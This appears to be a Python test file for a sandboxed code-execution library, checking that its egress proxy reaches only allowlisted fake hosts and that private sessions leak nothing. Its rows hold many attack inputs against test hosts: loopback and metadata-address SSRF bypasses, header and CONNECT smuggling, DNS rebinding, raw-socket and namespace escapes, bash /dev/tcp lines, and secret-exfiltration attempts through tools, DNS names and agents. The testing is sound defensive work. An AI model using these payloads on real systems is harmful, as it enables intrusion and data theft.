"""What sessions try on the fake internet, as data: a cell, what it gives, and what is reached by it."""

from __future__ import annotations

import dataclasses
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field

from cellblock import Cell, CodeAgent, ExecutionLimits, ScriptedModel, Session, Versioned, tool
from cellblock.store import open_store

SHOP, SIX, BANK = "93.184.216.34", "2606:2800:220:1::35", "93.184.216.99"

PRELUDE = '''
import os, socket, urllib.error, urllib.request
def get(url, timeout=4, **headers):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=timeout).read(200).decode()
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.reason}"
    except OSError as error:
        return repr(getattr(error, "reason", error))
def door(*parts, timeout=4, most=300):
    """What the door says to these bytes."""
    with socket.create_connection(("127.0.0.1", 3128), timeout) as one:
        try:
            for part in parts:
                one.sendall(part)
            said = b""
            while len(said) < most and (more := one.recv(65536)):
                said += more
        except OSError as error:
            return (said.decode("latin-1") if "said" in dir() else "") + repr(error)
        return said.decode("latin-1")
def connect(where, request=b"GET /tunnel HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"):
    return door(f"CONNECT {where} HTTP/1.1\\r\\nHost: {where}\\r\\n\\r\\n".encode(), request)
def direct(address, port, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(2)
            one.connect((address, port))
            one.send(b"GET /direct HTTP/1.1\\r\\n\\r\\n")
            return one.recv(10).decode()
    except OSError as error:
        return type(error).__name__
'''

LISTED = [
    "shop.test:8080",
    "shop.test:80",
    "SIX.test.:8080",
    "both.test:8080",
    f"[{SIX}]:80",
    "10.0.0.5:8080",
    "rebind.test:8080",
    "nowhere.test:8080",
    "dead.test:8080",
    *(
        f"{name}.test:8080"
        for name in (
            *("local", "local6", "zero", "inner", "home", "unique", "link6", "mixed", "mapped", "nat64", "sixtofour"),
            *("many", "own", "own6", "any", "any6"),
        )
    ),
    "meta.test:80",
]


@dataclass(frozen=True, slots=True, kw_only=True)
class Row:
    """`answer` is in what the cell gives; `reached` are address, port, path and host name of what came to a server."""

    name: str
    cell: str
    answer: str
    reached: list[list[object]] = field(default_factory=list)
    asked: bool = True


def _refused(name: str, kind: str, port: int = 8080) -> Row:
    said = f"403 {name}.test leads to {kind}, and only a public one is connected to"
    return Row(name=f"leads-to-{name}", cell=f"get('http://{name}.test:{port}/x')", answer=said)


def _unlisted(name: str, url: str, said: str) -> Row:
    return Row(name=f"unlisted-{name}", cell=f"get({url!r})", answer=said, asked=False)


_LOOP, _INNER = "a loopback address", "a private or special address"
_NOT = "is not in the network= list of this session"

ROWS = (
    Row(
        name="a-name", cell="get('http://shop.test:8080/a')", answer=f"{SHOP} /a",
        reached=[[SHOP, 8080, "/a", "shop.test:8080"]],
    ),
    Row(name="the-usual-port", cell="get('http://shop.test/b?c')", answer=f"{SHOP} /b?c", reached=[[SHOP, 80, "/b?c", "shop.test"]]),
    Row(name="a-name-in-capitals", cell="get('http://SHOP.test.:8080/')", answer=f"{SHOP} /", reached=[[SHOP, 8080, "/", "shop.test:8080"]]),
    Row(name="a-tunnel", cell="connect('shop.test:8080')", answer=f"{SHOP} /tunnel", reached=[[SHOP, 8080, "/tunnel", "x"]]),
    Row(name="ipv6-by-name", cell="get('http://six.test:8080/c')", answer=f"{SIX} /c", reached=[[SIX, 8080, "/c", "six.test:8080"]]),
    Row(name="ipv6-by-address", cell=f"get('http://[{SIX}]/d')", answer=f"{SIX} /d", reached=[[SIX, 80, "/d", f"[{SIX}]"]], asked=False),
    Row(name="ipv6-in-a-tunnel", cell=f"connect('[{SIX}]:80')", answer=f"{SIX} /tunnel", reached=[[SIX, 80, "/tunnel", "x"]], asked=False),
    Row(name="an-address-as-listed", cell="get('http://10.0.0.5:8080/e')", answer="10.0.0.5 /e", reached=[["10.0.0.5", 8080, "/e", "10.0.0.5:8080"]], asked=False),
    Row(name="a-host-header-of-another", cell="get('http://shop.test:8080/f', Host='bank.test')", answer=f"{SHOP} /f", reached=[[SHOP, 8080, "/f", "shop.test:8080"]]),
    _unlisted("name", "http://bank.test:8080/", f"403 bank.test:8080 {_NOT}"),
    _unlisted("port", "http://shop.test:8081/", f"403 shop.test:8081 {_NOT}"),
    _unlisted("address-of-a-listed-name", f"http://{SHOP}:8080/", f"403 {SHOP}:8080 {_NOT}"),
    _unlisted("private-address", "http://10.0.0.6:8080/", f"403 10.0.0.6:8080 {_NOT}"),
    _unlisted("port-of-a-listed-address", "http://10.0.0.5/", f"403 10.0.0.5:80 {_NOT}"),
    _unlisted("metadata", "http://169.254.169.254/latest", f"403 169.254.169.254:80 {_NOT}"),
    _unlisted("loopback", "http://127.0.0.1:8080/", f"403 127.0.0.1:8080 {_NOT}"),
    _unlisted("localhost", "http://localhost:8080/", f"403 localhost:8080 {_NOT}"),
    _unlisted("loopback-of-ipv6", "http://[::1]:8080/", f"403 [::1]:8080 {_NOT}"),
    _unlisted("loopback-mapped", "http://[::ffff:127.0.0.1]:8080/", _NOT),
    _unlisted("loopback-in-hexadecimal", "http://0x7f000001:8080/", "400 no destination: its host is no address"),
    _unlisted("loopback-as-a-number", "http://2130706433:8080/", "400 no destination: its host is no address"),
    _unlisted("loopback-in-octal", "http://0177.0.0.1:8080/", "400 no destination: its host is no address"),
    _unlisted("loopback-in-octal-at-once", "http://017700000001:8080/", "400 no destination: its host is no address"),
    _unlisted("loopback-with-a-zero-before", "http://127.0.0.01:8080/", "400 no destination: its host is no address"),
    _unlisted("loopback-in-parts-of-hexadecimal", "http://0x7f.0.0.0x1:8080/", "400 no destination: its host is no address"),
    _unlisted("loopback-with-a-final-dot", "http://127.0.0.1.:8080/", f"403 127.0.0.1:8080 {_NOT}"),
    _unlisted("loopback-of-ipv6-written-out", "http://[0:0:0:0:0:0:0:1]:8080/", f"403 [::1]:8080 {_NOT}"),
    _unlisted("loopback-through-nat64", "http://[64:ff9b::127.0.0.1]:8080/", f"403 [64:ff9b::7f00:1]:8080 {_NOT}"),
    _unlisted("unique-local", "http://[fd00::5]:8080/", f"403 [fd00::5]:8080 {_NOT}"),
    _unlisted("link-local-of-ipv6", "http://[fe80::5]:8080/", f"403 [fe80::5]:8080 {_NOT}"),
    _unlisted("a-name-in-percents", "http://shop%2etest:8080/", "400 no destination: its host is no name"),
    _unlisted("loopback-shortened", "http://127.1:8080/", "400 no destination: its host is no address"),
    _unlisted("subdomain", "http://x.shop.test:8080/", f"403 x.shop.test:8080 {_NOT}"),
    _unlisted("longer-name", "http://shop.test.bank.test:8080/", _NOT),
    Row(name="unlisted-tunnel", cell="connect('bank.test:8080')", answer=f"403 bank.test:8080 {_NOT}", asked=False),
    Row(name="user-before-the-host", cell=r"door(b'GET http://shop.test:8080@127.0.0.1:8080/ HTTP/1.1\r\n\r\n')", answer="400 no destination", asked=False),
    Row(name="line-break-in-a-header", cell=r"door(b'GET http://shop.test:8080/ HTTP/1.1\r\na: b\nc: d\r\n\r\n')", answer="400 a malformed header", asked=False),
    Row(name="folded-header", cell=r"door(b'GET http://shop.test:8080/ HTTP/1.1\r\na: b\r\n c\r\n\r\n')", answer="400 a malformed header", asked=False),
    Row(name="another-scheme", cell=r"door(b'GET ftp://shop.test:8080/ HTTP/1.1\r\n\r\n')", answer="400 a proxy is asked for", asked=False),
    Row(name="a-path-alone", cell=r"door(b'GET / HTTP/1.1\r\nHost: shop.test:8080\r\n\r\n')", answer="400 a proxy is asked for", asked=False),
    Row(
        name="a-second-request-on-the-first-one-s-connection",
        cell=r"door(b'GET http://shop.test:8080/1 HTTP/1.1\r\n\r\n', b'GET http://bank.test:8080/2 HTTP/1.1\r\nHost: bank.test\r\n\r\n')",
        answer=f"{SHOP} /1", reached=[[SHOP, 8080, "/1", "shop.test:8080"]],
    ),
    Row(
        name="a-second-tunnel-within-the-first", cell="connect('shop.test:8080', b'CONNECT bank.test:8080 HTTP/1.1\\r\\n\\r\\n')",
        answer=f"{SHOP} bank.test:8080", reached=[[SHOP, 8080, "bank.test:8080", ""]],
    ),
    Row(
        name="a-tunnel-with-another-host-header", cell=r"door(b'CONNECT shop.test:8080 HTTP/1.1\r\nHost: bank.test:8080\r\n\r\n', b'GET /3 HTTP/1.1\r\nHost: y\r\n\r\n')",
        answer=f"{SHOP} /3", reached=[[SHOP, 8080, "/3", "y"]],
    ),
    Row(
        name="two-host-headers", cell=r"door(b'GET http://shop.test:8080/4 HTTP/1.1\r\nHost: bank.test\r\nhost: 127.0.0.1\r\n\r\n')",
        answer=f"{SHOP} /4", reached=[[SHOP, 8080, "/4", "shop.test:8080"]],
    ),
    Row(name="a-tunnel-to-two-places", cell="connect('shop.test:8080@bank.test:8080')", answer="400 no destination", asked=False),
    Row(name="a-tunnel-to-a-list", cell="connect('shop.test:8080,bank.test:8080')", answer="400 no destination", asked=False),
    Row(name="a-tunnel-to-a-url", cell="connect('http://shop.test:8080')", answer="400 no destination", asked=False),
    Row(name="a-tunnel-with-a-nul", cell=r"connect('shop.test\x00.bank.test:8080')", answer="400 not a request", asked=False),
    Row(name="a-space-before-the-place", cell=r"door(b'CONNECT  shop.test:8080 HTTP/1.1\r\n\r\n')", answer="400 not a request", asked=False),
    Row(name="lines-that-end-in-half", cell=r"door(b'GET http://shop.test:8080/ HTTP/1.1\nHost: bank.test\n\r\n\r\n')", answer="400 not a request", asked=False),
    Row(name="a-backslash-in-the-place", cell=r"door(b'GET http://shop.test:8080\\@bank.test/ HTTP/1.1\r\n\r\n')", answer="400 no destination", asked=False),
    Row(name="a-fragment-in-the-place", cell=r"door(b'GET http://bank.test#@shop.test:8080/ HTTP/1.1\r\n\r\n')", answer="400 a proxy is asked for", asked=False),
    Row(name="a-proxy-within-the-url", cell="get('http://shop.test:8080/http://bank.test:8080/')", answer=f"{SHOP} /http://bank.test:8080/", reached=[[SHOP, 8080, "/http://bank.test:8080/", "shop.test:8080"]]),
    Row(name="socks", cell=r"door(b'\x05\x01\x00\r\n\r\n')", answer="400 not a request", asked=False),
    Row(name="zone-of-an-address", cell=r"door(b'CONNECT [fe80::1%25lo]:80 HTTP/1.1\r\n\r\n')", answer="400 no destination", asked=False),
    Row(name="a-head-without-end", cell="door(b'GET http://shop.test:8080/ HTTP/1.1\\r\\n', b'a: ' + b'b' * 200_000)", answer="431 a request's head has more than 32768 bytes", asked=False),
    Row(name="a-head-that-does-not-come", cell="door(b'GET http://shop.test:8080/ HTTP/1.1\\r\\na: b', timeout=1)", answer="TimeoutError", asked=False),
    _refused("local", _LOOP),
    _refused("local6", _LOOP),
    _refused("zero", _LOOP),
    _refused("inner", _INNER),
    _refused("home", _INNER),
    _refused("meta", "a link-local address", 80),
    _refused("unique", _INNER),
    _refused("link6", "a link-local address"),
    _refused("mixed", _LOOP),
    _refused("mapped", _LOOP),
    _refused("nat64", _INNER),
    _refused("sixtofour", _INNER),
    _refused("many", "a multicast address"),
    _refused("own", "an address of the host's own"),
    _refused("own6", "an address of the host's own"),
    _refused("any", "an address of the host's own"),
    _refused("any6", "an address of the host's own"),
    Row(name="no-such-name", cell="get('http://nowhere.test:8080/')", answer="502 nowhere.test cannot be resolved on the host"),
    Row(name="no-such-host", cell="get('http://dead.test:8080/', timeout=15)", answer="502 dead.test:8080 does not answer"),
    Row(name="rebinding-before", cell="get('http://rebind.test:8080/g')", answer=f"{SHOP} /g", reached=[[SHOP, 8080, "/g", "rebind.test:8080"]]),
    Row(name="rebinding-after", cell="get('http://rebind.test:8080/h')", answer=f"403 rebind.test leads to {_LOOP}"),
    Row(
        name="redirect-to-what-is-listed", cell="get('http://shop.test:8080/to/six.test:8080/i')", answer=f"{SIX} /i",
        reached=[[SHOP, 8080, "/to/six.test:8080/i", "shop.test:8080"], [SIX, 8080, "/i", "six.test:8080"]],
    ),
    Row(
        name="redirect-to-the-host", cell="get('http://shop.test:8080/to/127.0.0.1:8080/')", answer=f"403 127.0.0.1:8080 {_NOT}",
        reached=[[SHOP, 8080, "/to/127.0.0.1:8080/", "shop.test:8080"]],
    ),
    Row(
        name="redirect-to-another", cell="get('http://shop.test:8080/to/bank.test:8080/')", answer=f"403 bank.test:8080 {_NOT}",
        reached=[[SHOP, 8080, "/to/bank.test:8080/", "shop.test:8080"]],
    ),
    Row(name="a-tunnel-to-the-door", cell="connect('127.0.0.1:3128')", answer=f"403 127.0.0.1:3128 {_NOT}", asked=False),
    Row(name="past-the-door", cell=f"direct({SHOP!r}, 8080)", answer="PermissionError", asked=False),
    Row(name="past-the-door-by-ipv6", cell=f"direct({SIX!r}, 8080, socket.AF_INET6)", answer="PermissionError", asked=False),
    Row(name="past-the-door-by-udp", cell=f"direct({SHOP!r}, 53, kind=socket.SOCK_DGRAM)", answer="OSError", asked=False),
    Row(name="names-inside", cell="attempt = None\ntry:\n    attempt = socket.getaddrinfo('shop.test', 80)\nexcept OSError as error:\n    attempt = type(error).__name__\nattempt", answer="gaierror", asked=False),
    Row(name="the-door-s-port-taken", cell="""
one = socket.socket()
one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
try:
    one.bind(('127.0.0.1', 3128))
    said = 'bound'
except OSError as error:
    said = type(error).__name__
said""", answer="PermissionError", asked=False),
)  # fmt: skip


@tool(outward=True)
def mail(text: str) -> str:
    """Send it to somebody."""
    return f"sent {text}"


@tool(private=True)
def salaries() -> list[int]:
    """What people earn."""
    return [1, 2]


WAYS = {
    **{f"listed-{one}": f"get('http://{one}/x')" for one in LISTED},
    **{f"tunnel-{one}": f"connect('{one.lower()}')" for one in LISTED[:6]},
    "tunnel-from-before": "kept.sendall(b'GET /kept HTTP/1.1\\r\\n\\r\\n'); kept.recv(100)",
    "tunnel-from-before-of-a-thread": "import threading\ndone = []\none = threading.Thread(target=lambda: done.append(kept.send(b'GET /k HTTP/1.1\\r\\n\\r\\n')))\none.start()\none.join()\nkept.recv(100)",
    "by-a-request-that-was-half-sent": "half.sendall(b'Host: shop.test\\r\\n\\r\\n')\nhalf.recv(300)",
    "by-a-second-request-on-a-kept-connection": "twice.sendall(b'GET http://shop.test:8080/twice HTTP/1.1\\r\\n\\r\\n')\ntwice.recv(300)",
    "by-a-client-from-before": "client.request('GET', '/client')\nclient.getresponse().read()",
    "by-an-opener-from-before": "opener.open('http://shop.test:8080/opener', timeout=3).read()",
    "by-variables-from-before": "urllib.request.build_opener(urllib.request.ProxyHandler(variables)).open('http://shop.test:8080/v', timeout=3).read()",
    "by-a-child-from-before": "os.write(tell, b'go')\nos.read(told, 300)",
    "directly": f"direct({SHOP!r}, 8080)",
    "directly-by-ipv6": f"direct({SIX!r}, 8080, socket.AF_INET6)",
    "by-udp": f"direct({SHOP!r}, 53, kind=socket.SOCK_DGRAM)",
    "by-a-raw-socket": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    "by-a-packet-socket": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "by-netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
    "by-vsock": "socket.socket(40, socket.SOCK_STREAM)",
    "by-mptcp": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)",
    "by-fast-open": f"one = socket.socket()\none.sendto(b'x', 0x20000000, ({SHOP!r}, 8080))",
    "by-an-abstract-socket": "one = socket.socket(socket.AF_UNIX)\none.connect('\\0door')",
    "without-a-proxy": "urllib.request.build_opener(urllib.request.ProxyHandler({})).open('http://shop.test:8080/y', timeout=2)",
    "by-a-name-server": "direct('127.0.0.53', 53, kind=socket.SOCK_DGRAM)",
    "by-the-resolver": "socket.gethostbyname('secret.shop.test')",
    "by-a-shell": "import subprocess\nsubprocess.run(['bash', '-c', 'echo GET /z > /dev/tcp/127.0.0.1/3128; cat < /dev/tcp/93.184.216.34/8080'], timeout=5).returncode",
    "by-a-child": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import urllib.request; urllib.request.urlopen('http://shop.test:8080/child', timeout=3)\"]).returncode",
    "by-a-fork": "import os\nif (child := os.fork()) == 0:\n    get('http://shop.test:8080/fork')\n    os._exit(0)\nos.waitpid(child, 0)",
    "by-a-daemon": "import os\nif (child := os.fork()) == 0:\n    os.setsid()\n    if os.fork() == 0:\n        get('http://shop.test:8080/daemon')\n    os._exit(0)\nos.waitpid(child, 0)",
    "by-many-threads": "import concurrent.futures\nwith concurrent.futures.ThreadPoolExecutor(20) as pool:\n    said = set(pool.map(get, ['http://shop.test:8080/t'] * 40))\nsaid",
    "by-asyncio": "import asyncio\nreader, writer = await asyncio.open_connection('127.0.0.1', 3128)\nwriter.write(b'CONNECT shop.test:8080 HTTP/1.1\\r\\n\\r\\nGET /a HTTP/1.1\\r\\n\\r\\n')\nawait reader.read(300)",
    "by-http-1.0": "door(b'GET http://shop.test:8080/one HTTP/1.0\\r\\n\\r\\n')",
    "by-two-requests-at-once": "door(b'GET http://shop.test:8080/1 HTTP/1.1\\r\\n\\r\\n' * 2)",
    "by-post": "door(b'POST http://shop.test:8080/post HTTP/1.1\\r\\nContent-Length: 6\\r\\n\\r\\nsecret')",
    "by-another-door": "one = socket.socket()\none.bind(('127.0.0.1', 3128))",
    "by-its-environment": "os.environ['no_proxy'] = '*'\ntry:\n    said = get('http://shop.test:8080/e')\nfinally:\n    del os.environ['no_proxy']\nsaid",
    "by-a-tool": "mail('secret')",
    "by-a-tool-in-a-thread": "import threading\ndone = []\ndef call():\n    try:\n        done.append(mail('secret'))\n    except PermissionError as error:\n        done.append('PermissionError')\none = threading.Thread(target=call)\none.start()\none.join()\ndone",
    "by-a-tool-s-own-name": "next(value for name, value in list(globals().items()) if name == 'mail')(text='secret')",
    "by-taking-it-back": "session = None\n[name for name in dir() if 'mark' in name or 'private' in name]",
    "by-ending-the-process": "os._exit(3)",
    "after-that": "get('http://shop.test:8080/back')",
    "by-smtp": "import smtplib\nsmtplib.SMTP('shop.test', 8080, timeout=2)",
    "by-ftp": "import ftplib\nftplib.FTP('10.0.0.5', timeout=2)",
    "by-urls-of-files": "urllib.request.urlopen('file://shop.test/etc/passwd')",
    "by-another-namespace": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.setns(os.open('/proc/self/ns/net', os.O_RDONLY), 0), libc.unshare(0x40000000)",
    "by-the-first-process": "os.listdir('/proc/1/fd')",
    "by-the-door-over-ipv6": "direct('::ffff:127.0.0.1', 3128, socket.AF_INET6)",
    "by-the-door-s-port-on-ipv6": "direct('::1', 3128, socket.AF_INET6)",
    "by-a-datagram-to-the-door": "direct('127.0.0.1', 3128, kind=socket.SOCK_DGRAM)",
    "by-a-name-that-says-it": "socket.getaddrinfo('c2VjcmV0.shop.test', 80)",
    "by-multicast": "direct('224.0.0.251', 5353, kind=socket.SOCK_DGRAM)",
    "by-marking-again": "mark_private('over')\nget('http://shop.test:8080/again')",
    "by-an-agent": "await ask('secret')",
    "by-an-agent-on-a-branch": "await ask_on_branch('secret')",
}  # fmt: skip
"""What a private session tries; that nothing is reached, asked or touched is the test."""


def play() -> Iterator[dict[str, object]]:
    """Run everything: a dictionary for each row."""
    limits = ExecutionLimits(timeout_seconds=20)
    with Session(network=LISTED, limits=limits) as session:
        session.run(PRELUDE)
        for row in ROWS:
            yield {"name": row.name, **_outcome(session, row.cell)}
        yield from _bounds(session)
    yield from _private(limits)


def _outcome(session: Session, cell: str) -> dict[str, object]:
    return _told(session.run(cell))


def _told(done: Cell) -> dict[str, object]:
    said = f"{done.error.type}: {done.error.message}" if done.error is not None else str(done.value)
    return {"answer": said, "usage": dataclasses.asdict(done.usage)}


def _bounds(session: Session) -> Iterator[dict[str, object]]:
    short = ExecutionLimits(timeout_seconds=1.5, max_network_mb=1, max_connections=3)
    with Session(network=LISTED, limits=short) as small:
        small.run(PRELUDE)
        yield {"name": "bounds-silent", **_outcome(small, "get('http://shop.test:8080/silent', timeout=100)")}
        yield {"name": "bounds-drip", **_outcome(small, "urllib.request.urlopen('http://shop.test:8080/drip').read()")}
        crowd = """
crowd = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(3)]
try:
    said = get('http://shop.test:8080/late', timeout=0.5)
finally:
    for one in crowd:
        one.close()
said, get('http://shop.test:8080/then')"""
        yield {"name": "bounds-connections", **_outcome(small, crowd)}
        head = "urllib.request.urlopen('http://shop.test:8080/head').read()"
        yield {"name": "bounds-head-of-a-server", **_outcome(small, head)}
        endless = "len(urllib.request.urlopen('http://shop.test:8080/endless').read())"
        yield {"name": "bounds-endless", **_outcome(small, endless)}
        yield {"name": "bounds-used-up", **_outcome(small, "get('http://shop.test:8080/more')")}
        yield {"name": "bounds-lives", **_outcome(small, "1 + 1")}


_KEEP = """
import http.client
def opened(*parts):
    one = socket.create_connection(("127.0.0.1", 3128), 4)
    for part in parts:
        one.sendall(part)
    return one
kept = opened(b"CONNECT shop.test:8080 HTTP/1.1\\r\\n\\r\\n")
kept.recv(100)
half = opened(b"GET http://shop.test:8080/half HTTP/1.1\\r\\n")
twice = opened(b"CONNECT 10.0.0.5:8080 HTTP/1.1\\r\\n\\r\\n")
twice.recv(100)
client = http.client.HTTPConnection("127.0.0.1", 3128, timeout=4)
client.set_tunnel("shop.test", 8080)
client.connect()
opener = urllib.request.build_opener()
variables = {"http": os.environ["http_proxy"]}
waiting, tell = os.pipe()
told, telling = os.pipe()
if os.fork() == 0:
    os.read(waiting, 2)
    try:
        os.write(telling, get("http://shop.test:8080/child-from-before").encode())
        kept.sendall(b"GET /child-from-before HTTP/1.1\\r\\n\\r\\n")
    finally:
        os._exit(0)
mail('hello')"""

LASTING = (
    "private-lasting-kept", "private-lasting-shell", "private-lasting-asleep", "private-lasting-undone",
    "private-lasting-checked-out", "private-lasting-merged", "private-lasting-branch", "private-lasting-forked",
    "private-lasting-resumed", "private-lasting-resumed-shell", "private-attempts", "private-by-shell",
)  # fmt: skip
"""What private sessions try by what their hosts do with them."""

_SHELL = "python3 -c \"import urllib.request; urllib.request.urlopen('http://shop.test:8080/sh', timeout=3)\"; cat < /dev/tcp/127.0.0.1/3128"


def _private(limits: ExecutionLimits) -> Iterator[dict[str, object]]:
    ask = _agent().as_tool(name="ask")
    on_branch = _agent().as_tool(name="ask_on_branch", on_branch=True)
    with Session(network=LISTED, limits=limits, tools=[mail, salaries, ask, on_branch]) as session:
        session.run(PRELUDE)
        yield {"name": "private-before", **_outcome(session, _KEEP)}
        yield {"name": "private-tool", **_outcome(session, "salaries()"), "private": session.private}
        for name, cell in WAYS.items():
            yield {"name": f"private-{name}", **_outcome(session, cell)}
        yield {"name": "private-by-shell", **_told(session.shell(_SHELL))}
        session.undo(3)
        yield {"name": "private-by-undo", **_outcome(session, _AGAIN), "private": session.private}
        with session.branch() as branch:
            yield {"name": "private-by-branch", **_outcome(branch, _AGAIN), "private": branch.private}
            outward = "try:\n    said = mail('x')\nexcept PermissionError as error:\n    said = repr(error)\nsaid"
            yield {"name": "private-by-a-tool-of-a-branch", **_outcome(branch, outward), "private": branch.private}
    with Session(network=LISTED, limits=limits, private=True, tools=[mail]) as session:
        session.run(PRELUDE)
        yield {"name": "private-from-the-start", **_outcome(session, _AGAIN), "private": session.private}
    with Session(limits=limits) as session:
        session.run(PRELUDE)
        yield {"name": "no-list-no-door", **_outcome(session, "direct('127.0.0.1', 3128)")}
    yield from _lasting(limits)
    agent = CodeAgent(
        ScriptedModel([f"```python\nmark_private('secret')\n{PRELUDE}\nfinal_answer({_SEND})\n```"] * 2),
        network=LISTED,
    )
    yield {"name": "private-attempts", "answer": str(agent.run("secret", attempts=2).value), "usage": _NOTHING}


_AGAIN = "import urllib.error, urllib.request\nget('http://shop.test:8080/undone')"
_SEND = "get('http://shop.test:8080/sent')"
_NOTHING = {"connections": 0, "sent_bytes": 0, "received_bytes": 0}


def _agent() -> CodeAgent:
    """One that has a network, and sends what it is asked."""
    return CodeAgent(
        ScriptedModel([f"```python\n{PRELUDE}\nfinal_answer({_SEND} + get('http://10.0.0.5:8080/agent'))\n```"]),
        network=LISTED,
        tools=[mail],
    )


def _lasting(limits: ExecutionLimits) -> Iterator[dict[str, object]]:
    """One session in a store, marked in the middle, and all that can be made of it."""
    store = Versioned(f"sqlite:///{tempfile.mkdtemp()}/cells.db")
    with Session("pay", state=store, network=LISTED, limits=limits) as session:
        session.run(PRELUDE)
        session.run("x = 1")
        with session.branch("plain") as plain:
            plain.run("y = 2")
        session.run("secret = 41\nmark_private('payroll')")
        yield {"name": "private-lasting-kept", **_outcome(session, _AGAIN)}
        yield {"name": "private-lasting-shell", **_told(session.shell(_SHELL))}
        session.hibernate()
        yield {"name": "private-lasting-asleep", **_outcome(session, _AGAIN)}
        session.undo(4)
        yield {"name": "private-lasting-undone", **_outcome(session, _AGAIN)}
        session.checkout("HEAD~2")
        yield {"name": "private-lasting-checked-out", **_outcome(session, _AGAIN)}
        session.merge("plain")
        yield {"name": "private-lasting-merged", **_outcome(session, _AGAIN)}
        with session.branch("apart") as other:
            yield {"name": "private-lasting-branch", **_outcome(other, _AGAIN)}
    with open_store(store.url) as opened:
        opened.fork("default", "pay", "forked", at="HEAD~3")
    with Session("forked", state=store, network=LISTED, limits=limits) as session:
        session.run(PRELUDE)
        yield {"name": "private-lasting-forked", **_outcome(session, _AGAIN)}
    with Session("pay", state=store, network=LISTED, private=False, limits=limits) as session:
        session.run(PRELUDE)
        yield {"name": "private-lasting-resumed", **_outcome(session, _AGAIN)}
        yield {"name": "private-lasting-resumed-shell", **_told(session.shell(_SHELL))}
